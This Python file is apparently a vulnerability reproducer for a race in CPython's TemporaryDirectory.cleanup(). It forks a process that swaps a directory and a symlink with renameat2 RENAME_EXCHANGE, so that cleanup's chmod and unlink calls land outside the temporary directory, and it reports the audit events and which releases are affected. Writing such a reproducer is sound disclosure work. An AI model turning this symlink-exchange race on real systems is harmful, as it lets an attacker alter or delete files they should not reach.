"""A standalone reproducer of the exchange attack's escapes (``guarantees.py``'s ``exchange``
scenario): ``TemporaryDirectory.cleanup()`` changes a directory *outside* the temporary
directory while another process exchanges a directory and a symlink inside it.

The tree: ``sub/`` (mode 0500, 40 files) and ``link``, a symlink to ``outside/`` (40 files of
the same names). A forked child exchanges ``sub`` and ``link`` with
``renameat2(RENAME_EXCHANGE)`` (ctypes, Linux x86_64) in a loop while ``cleanup()`` runs.
Permission bits must apply: run it as a user, or as root without CAP_DAC_OVERRIDE:

    setpriv --inh-caps=-dac_override,-dac_read_search \\
        --bounding-set=-dac_override,-dac_read_search \\
        python3 findings/cpython-cleanup-escapes-under-exchange.py [RUNS]

Each run where ``outside/`` changed is printed with the calls of that run (audit events
``os.chmod``, ``os.remove``) that named ``sub``, ``link`` or a descriptor; the last line counts
runs, escapes and errors; the exit status is 1 when any run escaped. What it shows, by
release:

- CPython 3.13.18, 3.14.10, 3.15.2: the outside directory's mode goes 0755 -> 0700.
  ``tempfile._resetperms_at`` first tries ``open(name, O_NOFOLLOW, dir_fd=...)`` +
  ``fchmod``; when that open fails (``ELOOP``: the
  name *is* the symlink at that instant) it falls back to ``lstat(name)`` + ``chmod(name)``
  by name, a window the module itself acknowledges, and the exchange between the two
  makes ``chmod`` follow the symlink: the event is ``os.chmod ('sub', 448, <dir_fd>)``.
- CPython 3.10-3.12, PyPy 8.0.1 (Python 3.11) and RustPython 0.6.0 (a 3.14 module without
  the descriptor-relative cleanup; it has no audit events to print): outside files are
  removed or made 0700, or the outside directory's mode changes:
  the permission-error handler calls ``chmod``/``unlink`` on ``<top>/sub/fNN`` by full path
  again, which resolves through ``sub`` once it is the symlink (gh-157579's path).
"""

import ctypes
import os
import signal
import stat
import sys
import tempfile

SYS_renameat2, RENAME_EXCHANGE = 316, 2  # x86_64
libc = ctypes.CDLL(None, use_errno=True)
events = []


def hook(event, args):
    if event in ("os.chmod", "os.remove"):
        events.append((event, args))


def attacker(top):
    """Fork the exchanging process; return its pid once it is exchanging."""
    sys.stdout.flush()
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            # PyPy has no os.O_PATH.
            fd = os.open(top, getattr(os, "O_PATH", os.O_RDONLY) | os.O_DIRECTORY
                         | os.O_NOFOLLOW)
            exchange = libc.syscall
            a, b = ctypes.c_char_p(b"sub"), ctypes.c_char_p(b"link")
            exchange(SYS_renameat2, fd, a, fd, b, RENAME_EXCHANGE)
            os.write(w, b"x")
            while True:
                exchange(SYS_renameat2, fd, a, fd, b, RENAME_EXCHANGE)
        finally:
            os._exit(0)
    os.close(w)
    os.read(r, 1)
    os.close(r)
    return pid


def snapshot(d):
    return (stat.S_IMODE(os.lstat(d).st_mode),
            sorted((n, stat.S_IMODE(os.lstat(os.path.join(d, n)).st_mode))
                   for n in os.listdir(d)))


def force_remove(p):
    if os.path.isdir(p) and not os.path.islink(p):
        os.chmod(p, 0o700)
        for n in os.listdir(p):
            force_remove(os.path.join(p, n))
        os.rmdir(p)
    elif os.path.lexists(p):
        os.unlink(p)


def main():
    runs = int(sys.argv[1]) if len(sys.argv) > 1 else 300
    base = tempfile.mkdtemp()
    os.chmod(base, 0o755)
    sys.addaudithook(hook)
    escapes = errors = 0
    for i in range(runs):
        outside = os.path.join(base, "outside%d" % i)
        os.mkdir(outside)
        d = tempfile.TemporaryDirectory(dir=base)
        sub = os.path.join(d.name, "sub")
        os.mkdir(sub)
        for k in range(40):
            for p in (os.path.join(sub, "f%02d" % k), os.path.join(outside, "f%02d" % k)):
                with open(p, "w") as f:
                    f.write("x")
        os.chmod(sub, 0o500)
        os.chmod(outside, 0o755)
        os.symlink(outside, os.path.join(d.name, "link"))
        before = snapshot(outside)
        pid = attacker(d.name)
        del events[:]
        raised = None
        try:
            d.cleanup()
        except Exception as e:
            errors += 1
            raised = e
        finally:
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)
        seen = list(events)
        after = snapshot(outside)
        if after != before:
            escapes += 1
            now = dict(after[1])
            gone = sum(1 for n, _ in before[1] if n not in now)
            modes = sum(1 for n, m in before[1] if n in now and now[n] != m)
            print("run %d: outside/ mode %o -> %o, %d files removed, %d changed mode%s" % (
                i, before[0], after[0], gone, modes,
                "; cleanup raised %r" % raised if raised else ""))
            for ev, args in seen:
                text = " ".join(str(a) for a in args)
                if ev == "os.chmod" or ("sub" in text or "link" in text) and ev != "open":
                    print("    %s %r" % (ev, args))
        d._finalizer.detach()
        force_remove(d.name)
        force_remove(outside)
    print("%s %s: %d runs, %d escapes, %d errors" % (
        sys.implementation.name, sys.version.split()[0], runs, escapes, errors))
    os.rmdir(base)
    return 1 if escapes else 0


if __name__ == "__main__":
    sys.exit(main())
